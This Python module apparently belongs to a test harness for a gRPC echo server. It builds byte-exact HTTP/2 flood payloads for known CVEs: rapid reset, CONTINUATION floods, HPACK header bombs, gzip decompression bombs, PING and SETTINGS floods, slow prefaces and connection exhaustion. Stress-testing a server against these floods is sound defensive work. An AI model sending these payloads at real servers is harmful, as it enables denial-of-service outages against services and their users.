"""What abusive clients send: each flood as the bytes of a connection (RFC 9113, RFC 7541)."""

import gzip
import struct
from collections.abc import Sequence
from dataclasses import dataclass

from echo_scenarios import PAYLOAD, SERVICE
from idle_memory import (
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    SETTINGS,
    frame,
    header_block,
)
from load import framed

PRIORITY, RST_STREAM, WINDOW_UPDATE, CONTINUATION, UNKNOWN = 2, 3, 8, 9, 0xFA
INITIAL_WINDOW_SIZE = 4
CANCEL = struct.pack(">I", 8)
MAX_FRAME_BYTES = 16_384
MAX_STREAMS = 100
MAX_MESSAGE_BYTES = 4 << 20
WINDOW_BYTES = 65_535
MIB = 1 << 20
# The dynamic table's first place, behind those of the static one.
NEWEST_FIELD = b"\xbe"
GREETING = PREFACE + frame(SETTINGS)


@dataclass(frozen=True, slots=True)
class Flood:
    """One abuse; the fields are the arguments of ``flood.c``."""

    opening: bytes
    repeated: bytes = b""
    step: int = 0
    most: int = -1
    after: str = "hold"
    connections: int = 1


def integer(value: int, prefix_bits: int, first: int = 0) -> bytes:
    full = (1 << prefix_bits) - 1
    if value < full:
        return bytes([first | value])
    octets = [first | full]
    value -= full
    while value >= 128:
        octets.append(value % 128 + 128)
        value //= 128
    return bytes([*octets, value])


def field(name: bytes, value: bytes, kind: int = 0x00) -> bytes:
    """A field without Huffman's code; ``kind`` 0x40 has it remembered."""
    return bytes([kind]) + integer(len(name), 7) + name + integer(len(value), 7) + value


def head(block: bytes, stream: int = 1, flags: int = 0) -> bytes:
    """HEADERS, and CONTINUATION where one frame does not hold the block."""
    parts = [block[at : at + MAX_FRAME_BYTES] for at in range(0, len(block), MAX_FRAME_BYTES)]
    frames = []
    for index, part in enumerate(parts):
        kind = CONTINUATION if index else HEADERS
        last = END_HEADERS if index == len(parts) - 1 else 0
        frames.append(frame(kind, last | (0 if index else flags), stream, part))
    return b"".join(frames)


def request(method: str, stream: int = 1, more: bytes = b"") -> bytes:
    return head(header_block(f"{SERVICE}/{method}") + more, stream)


def call(method: str, body: bytes, stream: int = 1, more: bytes = b"") -> bytes:
    """A whole call of one framed message, however large the window."""
    return request(method, stream, more) + data(body, stream)


def data(body: bytes, stream: int = 1, last_flags: int = END_STREAM) -> bytes:
    parts = [body[at : at + MAX_FRAME_BYTES] for at in range(0, len(body), MAX_FRAME_BYTES)]
    return b"".join(
        frame(DATA, last_flags if index == len(parts) - 1 else 0, stream, part)
        for index, part in enumerate(parts)
    )


def streams(count: int = MAX_STREAMS) -> range:
    return range(1, 2 * count, 2)


def echo_message(payload: bytes) -> bytes:
    """``echo.v1.Message``, framed."""
    return framed(b"\x0a" + varint(len(payload)) + payload)


def varint(value: int) -> bytes:
    """As protobuf writes it."""
    octets = bytearray()
    while value >= 128:
        octets.append(value % 128 + 128)
        value //= 128
    return bytes([*octets, value])


def expand_request(count: int, payload: bytes) -> bytes:
    """``echo.v1.ExpandRequest``, framed: so many replies of that payload."""
    return framed(b"\x08" + varint(count) + b"\x12" + varint(len(payload)) + payload)


def window_of(size: int) -> bytes:
    return frame(SETTINGS, payload=struct.pack(">HI", INITIAL_WINDOW_SIZE, size))


def window_update(stream: int, size: int) -> bytes:
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", size))


def reset(stream: int = 1) -> bytes:
    return frame(RST_STREAM, 0, stream, CANCEL)


def header_bomb(fields: int) -> bytes:
    """A head that is many times as large as its bytes: one field, and references to it."""
    value = b"v" * 3_900
    return head(
        header_block(f"{SERVICE}/Converse") + field(b"x", value, 0x40) + NEWEST_FIELD * fields
    )


def gzip_bomb(size: int) -> bytes:
    packed = gzip.compress(bytes(size))
    return struct.pack(">BI", 1, len(packed)) + packed


ECHO = echo_message(PAYLOAD)
GZIP = field(b"grpc-encoding", b"gzip")
PARTIAL = struct.pack(">BI", 0, MAX_MESSAGE_BYTES) + bytes(WINDOW_BYTES - 5)

FLOODS: dict[str, Flood] = {
    # CVE-2023-44487
    "rapid reset": Flood(GREETING, request("Converse") + reset(), 2),
    "rapid reset of whole calls": Flood(GREETING, call("Echo", ECHO) + reset(), 2),
    # CVE-2025-8671
    "resets provoked by a window of zero": Flood(
        GREETING, request("Converse") + window_update(1, 0), 2
    ),
    "resets provoked by too large a window": Flood(
        GREETING, request("Converse") + window_update(1, (1 << 31) - 1), 2
    ),
    # CVE-2024-27316
    "CONTINUATION": Flood(
        GREETING + frame(HEADERS, 0, 1, header_block(f"{SERVICE}/Echo")),
        frame(CONTINUATION, 0, 1),
    ),
    "CONTINUATION, full frames": Flood(
        GREETING + frame(HEADERS, 0, 1, header_block(f"{SERVICE}/Echo")),
        frame(CONTINUATION, 0, 1, field(b"x", b"y" * 100) * 100),
    ),
    "header bomb": Flood(GREETING, header_bomb(10_000), 2),
    "header bomb just below the limit": Flood(GREETING, header_bomb(14), 2),
    # CVE-2019-9511 to 9518
    "PING": Flood(GREETING, frame(PING, payload=bytes(8))),
    "PING, answers unread": Flood(GREETING, frame(PING, payload=bytes(8)), after="deaf"),
    "SETTINGS": Flood(GREETING, frame(SETTINGS)),
    "SETTINGS, answers unread": Flood(GREETING, frame(SETTINGS), after="deaf"),
    "PRIORITY": Flood(GREETING, frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 15)), 2),
    "WINDOW_UPDATE": Flood(GREETING, window_update(0, 1)),
    "empty DATA": Flood(GREETING + request("Converse"), frame(DATA, 0, 1)),
    "DATA of a byte": Flood(GREETING + request("Converse"), frame(DATA, 0, 1, b"\0")),
    "unknown frames": Flood(GREETING, frame(UNKNOWN, payload=bytes(8))),
    "replies drawn byte by byte": Flood(
        PREFACE + window_of(0) + call("Expand", expand_request(1 << 20, bytes(1_000))),
        window_update(1, 1),
    ),
    "zero window, large replies": Flood(
        PREFACE
        + window_of(0)
        + b"".join(
            call("Expand", expand_request(1 << 20, bytes(30_000)), each) for each in streams()
        ),
        connections=8,
    ),
    "large replies, unread": Flood(
        PREFACE
        + window_of((1 << 31) - 1)
        + window_update(0, (1 << 31) - 1 - WINDOW_BYTES)
        + b"".join(
            call("Expand", expand_request(1 << 20, bytes(30_000)), each) for each in streams()
        ),
        after="deaf",
        connections=8,
    ),
    # Messages
    "message length": Flood(
        GREETING, request("Echo") + frame(DATA, 0, 1, b"\0\xff\xff\xff\xff"), 2
    ),
    "messages that never end": Flood(
        GREETING
        + b"".join(request("Collect", each) + data(PARTIAL, each, 0) for each in streams()),
        connections=8,
    ),
    "decompression": Flood(GREETING, call("Echo", gzip_bomb(64 * MIB), more=GZIP), 2),
    "decompression just below the limit": Flood(
        GREETING, call("Echo", gzip_bomb(MAX_MESSAGE_BYTES), more=GZIP), 2
    ),
    # Connections
    "connections opened and left": Flood(GREETING, after="leave", connections=16),
    "connections that fail with calls open": Flood(
        GREETING + b"".join(request("Converse", each) for each in streams()),
        frame(DATA, 0, 0, b"x"),
        most=1,
    ),
    "connections with one call": Flood(
        GREETING + call("Echo", ECHO), after="leave", connections=16
    ),
    "slow prefaces": Flood(PREFACE[:10], connections=4_000),
    "no HTTP/2": Flood(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", connections=16),
    # Calls that are like any other
    "unary calls": Flood(GREETING, call("Echo", ECHO), 2),
    "calls of unknown methods": Flood(GREETING, call("Unknown", ECHO), 2),
}


def refused_calls(path: str, metadata: Sequence[tuple[str, str]], message: bytes) -> Flood:
    """Unary calls as fast as they go, which a guard refuses for their metadata."""
    more = b"".join(field(name.encode(), value.encode()) for name, value in metadata)
    return Flood(GREETING, head(header_block(path) + more) + data(framed(message)), 2)
